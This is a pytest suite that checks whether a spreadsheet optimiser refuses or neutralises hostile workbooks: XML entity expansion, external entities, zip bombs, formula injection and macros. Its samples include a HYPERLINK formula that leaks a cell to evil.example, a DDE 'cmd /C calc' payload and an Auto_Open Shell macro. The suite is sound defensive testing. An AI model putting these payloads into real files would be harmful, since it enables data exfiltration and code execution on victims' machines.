"""Hostile workbooks (issue 4): entity expansion, external entities, zip bombs, formula
injection and macros are refused or neutralised — cleanly, quickly, with nothing copied.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from make_bad_corpus import BILLION_LAUGHS, EXTERNAL_ENTITY, base_bytes, rezip, sheet_part, with_doctype, zip_parts
from builders import measure, tables, workbook
from optimiser.cli import main
from optimiser.input.read import DEFAULT_MAX_UNZIPPED_MB

ROOT = Path(__file__).resolve().parent.parent


def run(*args, cwd=None, timeout=60):
    env = dict(os.environ, PYTHONPATH=str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", ""))
    t0 = time.perf_counter()
    proc = subprocess.run([sys.executable, "-m", "optimiser", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd, env=env, timeout=timeout)
    return proc, time.perf_counter() - t0


def files_in(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


# ---------------------------------------------------------------- XML entities

def test_openpyxl_parses_through_defusedxml():
    assert openpyxl.DEFUSEDXML is True  # the dependency is installed and picked up


#: parts openpyxl parses when it reads a workbook (the rest are never parsed, so never expanded)
PARSED_PARTS = ["xl/worksheets/sheet2.xml", "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml",
                "xl/_rels/workbook.xml.rels", "docProps/core.xml"]


@pytest.mark.parametrize("part", ["xl/worksheets/sheet2.xml", "xl/workbook.xml", "docProps/core.xml"])
def test_billion_laughs_is_refused_at_once(part, tmp_path):
    """10⁹ 'lol's if expanded: a subprocess with a timeout, so a regression fails instead of hanging the suite."""
    assert sheet_part("measures") == "xl/worksheets/sheet2.xml"
    path = tmp_path / "lol.xlsx"
    path.write_bytes(with_doctype(part, BILLION_LAUGHS, "lol9"))
    proc, seconds = run("plan", path, "-o", tmp_path / "plan.xlsx", cwd=tmp_path, timeout=30)
    assert proc.returncode == 2, proc.stderr
    assert seconds < 10
    [line] = proc.stderr.splitlines()
    assert line.startswith(f"error: {path}")
    assert "XML entities" in line and "entity-expansion" in line
    assert "Traceback" not in proc.stderr
    assert files_in(tmp_path) == {"lol.xlsx"}


@pytest.mark.parametrize("part", PARSED_PARTS)
def test_external_entity_is_refused(part, tmp_path, capsys):
    path = tmp_path / "xxe.xlsx"
    path.write_bytes(with_doctype(part, EXTERNAL_ENTITY, "ext"))
    assert main(["check", str(path)]) == 2
    err = capsys.readouterr().err
    assert "XML entities" in err and "external-entity" in err
    assert "root:" not in err  # nothing of /etc/passwd


@pytest.mark.parametrize("part", ["_rels/.rels", "docProps/app.xml", "xl/theme/theme1.xml"])
def test_entities_in_parts_never_parsed_are_never_expanded(part, tmp_path, capsys):
    """openpyxl does not parse these parts: the declarations sit there inert and the plan never copies them."""
    path = tmp_path / "inert.xlsx"
    path.write_bytes(with_doctype(part, BILLION_LAUGHS + EXTERNAL_ENTITY.split("\n", 1)[1], None))
    t0 = time.perf_counter()
    code = main(["check", str(path)])
    assert time.perf_counter() - t0 < 5
    assert code in (0, 2), capsys.readouterr().err
    assert "Traceback" not in capsys.readouterr().err


# ---------------------------------------------------------------- zip bombs

BOMB_MB = 300


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    """A valid-looking .xlsx whose measures sheet inflates to ~300 MB of spaces (~0.3 MB on disk).

    Written by streaming 1 MB chunks, so building it takes well under a second and no memory.
    """
    path = tmp_path_factory.mktemp("bomb") / "bomb.xlsx"
    target = sheet_part("measures")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in zip_parts(base_bytes()):
            if info.filename != target:
                z.writestr(info.filename, data)
                continue
            text = data.decode()
            k = text.index("<sheetData>")
            zi = zipfile.ZipInfo(target)
            zi.compress_type = zipfile.ZIP_DEFLATED
            with z.open(zi, "w", force_zip64=True) as f:
                f.write(text[:k].encode())
                chunk = b" " * (1 << 20)
                for _ in range(BOMB_MB):
                    f.write(chunk)
                f.write(text[k:].encode())
    assert path.stat().st_size < 1_000_000
    return path


def _peak_rss_mb(argv: list[str]) -> tuple[int, float, str]:
    """Exit code, peak memory (MB) and stderr of `policymix ARGV` in a fresh interpreter."""
    code = (
        "import resource, sys\n"
        "from optimiser.cli import main\n"
        f"rc = main({argv!r})\n"
        "sys.stderr.write('RSS %d\\n' % resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
        "sys.exit(rc)\n"
    )
    env = dict(os.environ, PYTHONPATH=str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", ""))
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=env, timeout=60)
    rss = [l for l in proc.stderr.splitlines() if l.startswith("RSS ")]
    err = "\n".join(l for l in proc.stderr.splitlines() if not l.startswith("RSS "))
    return proc.returncode, int(rss[0].split()[1]) / 1024, err


def test_zip_bomb_is_refused_by_its_declared_size_quickly_and_without_inflating(bomb, tmp_path):
    t0 = time.perf_counter()
    code, rss_bomb, err = _peak_rss_mb(["plan", str(bomb), "-o", str(tmp_path / "plan.xlsx")])
    seconds = time.perf_counter() - t0
    assert code == 2, err
    assert seconds < 10
    [line] = err.splitlines()
    assert line.startswith(f"error: {bomb}: parts would inflate to 315 MB, above the limit of "
                           f"{DEFAULT_MAX_UNZIPPED_MB:g} MB")
    assert "--max-unzipped-mb" in line
    # peak memory of the refusal is that of refusing a tiny non-workbook: nothing was inflated
    empty = tmp_path / "empty.xlsx"
    empty.write_bytes(b"")
    _, rss_empty, _ = _peak_rss_mb(["check", str(empty)])
    assert rss_bomb < rss_empty + 50, (rss_bomb, rss_empty)
    assert files_in(tmp_path) == {"empty.xlsx"}


def test_the_limit_is_a_setting(bomb, tmp_path, capsys):
    # a lower limit is named in the refusal
    assert main(["check", str(bomb), "--max-unzipped-mb", "50"]) == 2
    assert "above the limit of 50 MB" in capsys.readouterr().err
    # a genuine workbook with a large, incompressible part: refused under a small limit, read under a larger one
    extra = os.urandom(3_000_000)
    big = tmp_path / "big.xlsx"
    big.write_bytes(rezip([(i.filename, d) for i, d in zip_parts(base_bytes())] + [("xl/media/image1.png", extra)]))
    assert main(["check", str(big), "--max-unzipped-mb", "2"]) == 2
    assert "above the limit of 2 MB" in capsys.readouterr().err
    assert main(["check", str(big), "--max-unzipped-mb", "10"]) == 0


def test_a_raised_limit_still_refuses_a_bomb_by_its_compression_ratio(bomb, tmp_path):
    """Raising the limit past the bomb's size does not inflate it: a 1000-fold part is refused anyway."""
    proc, seconds = run("check", bomb, "--max-unzipped-mb", "1000", timeout=30)
    assert proc.returncode == 2, proc.stderr
    assert seconds < 10
    # about 1000-fold: the spaces inflate ~1030-fold, less what the sheet's XML around them compresses to
    assert re.search(r"would inflate 10\d\d-fold", proc.stderr) and "zip bomb" in proc.stderr


# ---------------------------------------------------------------- formula injection (OWASP)

HOSTILE_TEXT = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "plus": "+31 6 12345678",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "dde": "=cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=2+2",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path, capsys):
    h = HOSTILE_TEXT
    t = tables(
        measures=[measure("a", 1.0, 50, name=h["hyperlink"], source=h["plus"], cluster="=north"),
                  measure("b", 2.0, 80, name=h["minus"], source=h["at"], sector="@sector"),
                  measure("c", 2.0, 120, name=h["tab"], source=h["cr"])],
        instruments=[{"instrument_id": "G", "name": h["dde"], "kind": "+grant", "source": "-x"}],
    )
    src = workbook(tmp_path / "in.xlsx", t)
    out = tmp_path / "plan.xlsx"
    code = main(["plan", str(src), "-o", str(out), "--set", "measures:b:exclusive_group==SUM(1)"])
    assert code == 0, capsys.readouterr().err

    wb = openpyxl.load_workbook(out)  # not read-only: data_type is the stored type
    looks_like_formula = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.data_type == "s"
                    looks_like_formula.append((ws.title, cell.value))
    texts = {v for _, v in looks_like_formula}
    # every hostile text reached the plan (the reader strips leading tab/CR; the rest must read the same)
    for key in ("hyperlink", "plus", "minus", "at", "dde"):
        assert h[key] in texts, key
    assert "=1+1" in texts and "=2+2" in texts
    assert {"=north", "@sector", "+grant", "-x", "=SUM(1)"} <= texts
    # on the result sheets too, not only on the copied input sheets
    assert any(sheet == "Measure plan" for sheet, _ in looks_like_formula)
    # and no <f> element anywhere in the package's sheets
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name

    # the plan re-read as input gives back the same texts
    assert main(["check", str(out)]) == 0, capsys.readouterr().err


# ---------------------------------------------------------------- macros and other unexpected content

MARKER = b"Attribute VB_Name = \"ThisWorkbook\"\r\nSub Auto_Open(): Shell \"calc.exe\": End Sub"


def _macro_workbook(path: Path) -> Path:
    parts = []
    for info, data in zip_parts(base_bytes()):
        if info.filename == "[Content_Types].xml":
            data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            data = data.replace(b"<Default Extension=\"xml\"",
                                b"<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\" />"
                                b"<Default Extension=\"xml\"")
        if info.filename == "xl/_rels/workbook.xml.rels":
            data = data.replace(b"</Relationships>",
                                b'<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/'
                                b'vbaProject" Target="vbaProject.bin" Id="rId99" /></Relationships>')
        parts.append((info.filename, data))
    parts.append(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARKER + bytes(512)))
    parts.append(("customXml/item1.xml", b"<payload>" + MARKER.replace(b"\"", b"") + b"</payload>"))
    path.write_bytes(rezip(parts))
    return path


def test_a_macro_enabled_workbook_is_read_but_its_macros_never_reach_the_plan(tmp_path, capsys):
    src = _macro_workbook(tmp_path / "with-macros.xlsm")
    before = src.read_bytes()
    assert "xl/vbaProject.bin" in openpyxl.load_workbook(src, keep_vba=True).vba_archive.namelist()  # a real one
    out = tmp_path / "plan.xlsx"
    assert main(["plan", str(src), "-o", str(out), "--json", str(tmp_path / "plan.json")]) == 0, \
        capsys.readouterr().err
    assert src.read_bytes() == before
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        assert "xl/vbaProject.bin" not in names
        assert not any(n.startswith("customXml/") for n in names)
        assert b"macroEnabled" not in z.read("[Content_Types].xml")
        assert b"vbaProject" not in z.read("xl/_rels/workbook.xml.rels")
        assert not any(b"Auto_Open" in z.read(n) for n in names)
    assert json.loads((tmp_path / "plan.json").read_text())["status"] == "target_met"
